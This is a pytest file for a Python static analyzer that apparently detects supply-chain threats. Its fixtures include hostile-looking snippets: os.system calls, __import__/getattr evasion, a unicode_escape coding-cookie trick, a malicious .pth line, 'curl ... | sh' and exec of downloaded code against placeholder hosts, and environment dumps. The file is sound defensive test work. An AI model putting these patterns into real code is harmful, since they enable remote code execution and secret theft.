"""`extract`: hostile sources become facts, never exceptions; calls and capabilities are resolved."""

from __future__ import annotations

from chainwarden.analyzers.python import PythonAnalyzer
from chainwarden.analyzers.python import capabilities as cap
from chainwarden.analyzers.python.facts import MAIN_SCOPE, MODULE_SCOPE, PTH, PYC, PYPROJECT, PyFacts


def facts(source: str | bytes) -> PyFacts:
    data = source.encode() if isinstance(source, str) else source
    return PythonAnalyzer().extract(data)


def kinds(f: PyFacts, scope: str = MODULE_SCOPE) -> set[str]:
    return {s.kind for sc in f.scopes if sc.name == scope for s in sc.signals}


def problems(f: PyFacts) -> set[str]:
    return {p.kind for p in f.problems}


def test_python2_source_is_a_syntax_error_fact() -> None:
    f = facts('print "hello"\n')
    assert problems(f) == {"syntax-error"}
    assert f.problems[0].line == 1


def test_null_bytes_and_garbage_do_not_raise() -> None:
    assert "syntax-error" in problems(facts(b"x = 1\x00\n"))
    assert problems(facts(b"\xff\xfe\x00garbage"))


def test_unknown_coding_cookie_is_undecodable() -> None:
    assert problems(facts(b"# coding: no-such-codec\nx = 1\n")) == {"undecodable"}


def test_unicode_escape_cookie_is_decoded_as_cpython_does() -> None:
    # Read as UTF-8 the second line is one comment; CPython decodes \u000a into a newline first.
    source = b"# coding: unicode_escape\n#\\u000aimport os; os.system('id')\n"
    f = facts(source)
    assert "exotic-encoding" in problems(f)
    assert cap.PROCESS in kinds(f)


def test_utf7_cookie_is_exotic() -> None:
    f = facts(b"# coding: utf-7\nx = 1\n")
    assert "exotic-encoding" in problems(f)


def test_ordinary_legacy_cookie_is_not_exotic() -> None:
    f = facts(b"# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n")
    assert not problems(f)


def test_deep_nesting_is_a_fact_not_a_crash() -> None:
    assert problems(facts("x = " + "(" * 5000 + ")" * 5000 + "\n"))
    assert problems(facts("x = " + "-" * 200_000 + "1\n")) <= {"too-complex", "syntax-error"}
    nested = "x = 1\n" + "".join("    " * i + "if x:\n" for i in range(90)) + "    " * 90 + "pass\n"
    assert problems(facts(nested)) <= {"too-complex", "syntax-error"}


def test_aliases_resolve_calls() -> None:
    f = facts("from os import system as s\nimport subprocess as sp\ns('id')\nsp.Popen(['ls'])\n")
    details = {s.detail for sc in f.scopes for s in sc.signals}
    assert {"os.system", "subprocess.Popen"} <= details


def test_dunder_import_and_getattr_resolve() -> None:
    f = facts("getattr(__import__('os'), 'system')('id')\n__import__('socket').socket()\n")
    assert {cap.PROCESS, cap.NETWORK} <= kinds(f)


def test_functions_are_scopes_with_calls_and_spawns() -> None:
    f = facts(
        "import threading\nfrom .helpers import go\n\n"
        "def run():\n    go()\n    import requests\n    import socket\n    socket.create_connection(('h.invalid', 1))\n\n"
        "class C:\n    def m(self):\n        self.n()\n    def n(self):\n        run()\n\n"
        "threading.Thread(target=run).start()\n"
    )
    scopes = {s.name: s for s in f.scopes}
    assert ".helpers.go" in scopes["run"].calls.split()
    assert cap.NETWORK in {s.kind for s in scopes["run"].signals}
    assert "C.n" in scopes["C.m"].calls.split()
    assert "run" in scopes[MODULE_SCOPE].spawns.split()
    imports = {(i.module, i.level, i.scope) for i in f.imports}
    assert ("helpers", 1, MODULE_SCOPE) in imports
    assert ("requests", 0, "run") in imports


def test_main_guard_is_not_module_scope() -> None:
    f = facts("import os\nif __name__ == '__main__':\n    os.system('id')\n")
    assert cap.PROCESS not in kinds(f)
    assert cap.PROCESS in kinds(f, MAIN_SCOPE)


def test_docstrings_are_not_strings_of_interest() -> None:
    f = facts('"""Reads ~/.ssh/id_rsa? Never."""\nx = 1\n')
    assert not kinds(f)


def test_child_interpreter_code_is_analysed() -> None:
    f = facts("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import socket; socket.socket()'])\n")
    assert {cap.CHILD_INTERPRETER, cap.NETWORK} <= kinds(f)


def test_python_c_in_a_shell_string_is_analysed() -> None:
    f = facts('import os\nos.system("python3 -c \'import os; os.system(\\"curl -s https://a.invalid | sh\\")\'")\n')
    assert {cap.CHILD_INTERPRETER, cap.SHELL_DOWNLOAD} <= kinds(f)


def test_exec_of_network_data_is_remote_code() -> None:
    f = facts("import urllib.request\nexec(urllib.request.urlopen('https://x.invalid/p').read())\n")
    assert cap.REMOTE_CODE in kinds(f)


def test_exec_of_file_contents_is_only_dynamic_code() -> None:
    f = facts("exec(open('pkg/_version.py').read())\n")
    assert kinds(f) == {cap.DYNAMIC_CODE}


def test_env_dump_forms() -> None:
    f = facts(
        "import os, json\na = dict(os.environ)\nb = {**os.environ}\nc = json.dumps(os.environ)\nfor k in os.environ:\n    pass\n"
    )
    env = [s for sc in f.scopes for s in sc.signals if s.kind == cap.ENV_DUMP]
    assert len(env) == 4
    assert not kinds(facts("import os\nkey = os.environ.get('KEY')\n"))


def test_pth_with_path_lines_is_read_line_by_line() -> None:
    f = facts(b"/opt/lib\nimport pkg_boot\nimport os; os.system('id')\n")
    assert f.kind == PTH
    assert (2, "pkg_boot") in f.startup_targets
    assert cap.PROCESS in kinds(f)


def test_pyproject_build_settings() -> None:
    f = facts(
        b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
        b"[tool.hatch.build.hooks.custom]\n"
    )
    assert f.kind == PYPROJECT
    assert f.build_backend == "backend"
    assert f.build_paths == ("_build",)
    assert f.build_scripts == ("hatch_build.py",)


def test_pyc_is_never_unmarshalled() -> None:
    import importlib.util

    data = importlib.util.MAGIC_NUMBER + b"\x00" * 12 + b"\xe3\x00\x00" + b"urlopen\x00\x00socket"
    f = facts(data)
    assert f.kind == PYC
    assert cap.NETWORK in kinds(f)


def test_start_file_entries() -> None:
    f = facts("pkg.boot:main\n# comment\nother.mod:run\n")
    assert f.startup_targets == ((1, "pkg.boot:main"), (3, "other.mod:run"))


def test_pyarmor_is_packed() -> None:
    f = facts("from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')\n")
    assert cap.PACKED in kinds(f)
